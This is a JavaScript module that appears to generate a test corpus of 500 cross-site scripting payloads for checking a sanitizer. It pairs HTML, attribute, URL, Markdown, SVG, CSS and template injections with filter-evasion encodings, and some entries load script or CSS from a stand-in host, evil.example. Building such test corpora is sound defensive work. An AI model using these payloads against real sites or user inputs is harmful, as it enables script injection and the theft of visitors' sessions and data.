// What somebody writes who wants a page to run it: our own list, made of contexts, of what runs there, and of ways to
// hide it. Each calls ran(NUMBER) where it succeeds.
const HTML = [
  '<script>J</script>',
  '<img src=x onerror=J>',
  '<svg onload=J>',
  '<svg><script>J</script></svg>',
  '<body onload=J>',
  '<iframe srcdoc="<script>parent.J</script>"></iframe>',
  '<iframe src="javascript:parent.J"></iframe>',
  '<details open ontoggle=J><summary>x</summary></details>',
  '<video><source onerror=J></video>',
  '<audio src=x onerror=J>',
  '<input autofocus onfocus=J>',
  '<object data="javascript:J"></object>',
  '<embed src="javascript:J">',
  '<form action="javascript:J"><button autofocus>x</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:J">',
  '<base href="javascript:/x/-J//">',
  '<template><img src=x onerror=J></template><p>',
  '<noscript><p title="</noscript><img src=x onerror=J>">',
  '</textarea><img src=x onerror=J>',
  '</title><script>J</script>',
  '<svg></p><style><a id="</style><img src=1 onerror=J>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=J>',
  '<!--><img src=x onerror=J>-->',
  '<x contenteditable autofocus onfocus=J>x</x>',
];
const ATTRIBUTE = ['"><script>J</script>', '" autofocus onfocus=J x="', "' autofocus onfocus=J x='", '"><img src=x onerror=J x="', '` onerror=J `', ' onmouseover=J ', '" style="animation:x" onanimationstart="J', '"></a><svg onload=J>'];
const URLS = ['javascript:J', 'JaVaScRiPt:J', 'java\tscript:J', ' javascript:J', 'data:text/html,<script>opener.J</script>', 'vbscript:J', 'https://a.example/"onmouseover="J', '//evil.example/x.js', "https://a.example/');J//"];
const MARKDOWN = [
  '[x](javascript:J)',
  '[x](javascript:J//https://a.example)',
  '![x](javascript:J)',
  '![x](https://evil.example/x.png"onerror="J)',
  '[<img src=x onerror=J>](https://a.example)',
  '[x](https://a.example/"onmouseover="J)',
  '[x](data:text/html;base64,PHNjcmlwdD5KPC9zY3JpcHQ+)',
  '**<img src=x onerror=J>**',
  '<javascript:J>',
  '[x]: javascript:J\n[x]',
  '```\n</code></pre><script>J</script>\n```',
  '[a](javascript&colon;J)',
  '[**x**](//evil.example)<svg onload=J>',
];
const SVG = [
  '<svg><a xlink:href="javascript:J"><text y=20>x</text></a></svg>',
  '<svg><animate onbegin=J attributeName=x dur=1s></svg>',
  '<svg><set href="#x" attributeName=href to=javascript:J></svg>',
  '<svg><foreignObject><img src=x onerror=J></foreignObject></svg>',
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="J"/>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>J</script></svg>#x"></svg>',
];
const CSS = ['<style>@import "//evil.example/x.css";</style>', '<p style="background:url(javascript:J)">', '</style><script>J</script>', 'x{}*{background:url(//evil.example/x)}', '<p style="width:expression(J)">', '<style>@keyframes x{}</style><p style="animation:x" onanimationstart=J>', '<link rel=stylesheet href="//evil.example/x.css">'];
const TEMPLATE = ["{{constructor.constructor('J')()}}", '${J}', '#{J}', '<%= J %>', '{%J%}', '"};J;{"', '</script><script>J</script>', "');J;//", '\u2028J//', '%(J)s'];

const BASES = [HTML, ATTRIBUTE, URLS, MARKDOWN, SVG, CSS, TEMPLATE].flat();

const each = (text, change) => [...text].map(change).join('');
const ENCODINGS = [
  (text) => text.replace(/[<>"'&]/g, (sign) => `&#${sign.charCodeAt(0)};`),
  (text) => text.replace(/[<>"'&:]/g, (sign) => `&#x${sign.charCodeAt(0).toString(16)}`),
  (text) => text.replace(/[<>"'&]/g, (sign) => ({ '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&apos;', '&': '&amp;' })[sign]),
  (text) => text.replace(/</g, '&amp;lt;'),
  (text) => encodeURIComponent(text),
  (text) => encodeURIComponent(encodeURIComponent(text)),
  (text) => text.replace(/[<>"']/g, (sign) => `\\u00${sign.charCodeAt(0).toString(16)}`),
  (text) => text.replace(/[<>"']/g, (sign) => `\\x${sign.charCodeAt(0).toString(16)}`),
  (text) => text.replace(/</g, '＜').replace(/>/g, '＞').replace(/"/g, '＂'), // full width
  (text) => text.replace(/</g, '+ADw-').replace(/>/g, '+AD4-'), // UTF-7
  (text) => each(text, (sign, index) => (/[a-z]/.test(sign) && index % 2 === 0 ? sign.toUpperCase() : sign)).replace(/RAN/gi, 'ran'),
  (text) => text.replace(/<(\w)(\w)/g, '<$1\u200b$2').replace(/javascript/gi, 'java\nscript'),
  (text) => text.replace(/<(\w+)/g, '<\u0001$1').replace(/ on/g, '/on'),
  (text) => text.replace(/<script>/g, '<scr<script>ipt>').replace(/<img/g, '<i<img>mg'),
  (text) => text.replace(/ /g, '\f').replace(/=/g, ' = '),
  (text) => `\u202e${text}\u202c`,
  (text) => `<![CDATA[${text}]]>`,
  (text) => `${text}<!--`,
];

const COUNT = 500;

/** All of them, the plain ones first: [{number, text}] */
export function payloads() {
  const plain = BASES.map((base) => (call) => base.replaceAll('J', call));
  const seen = new Set(plain.map((make) => make('ran')));
  const hidden = ENCODINGS.flatMap((encode) => plain.map((make) => (call) => encode(make(call)))).filter((make) => {
    const isNew = !seen.has(make('ran')); // a way to hide may change nothing
    seen.add(make('ran'));
    return isNew;
  });
  const step = hidden.length / (COUNT - plain.length);
  const chosen = [...plain, ...Array.from({ length: COUNT - plain.length }, (_, index) => hidden[Math.floor(index * step)])];
  return chosen.map((make, number) => ({ number, text: make(`ran(${number})`) }));
}
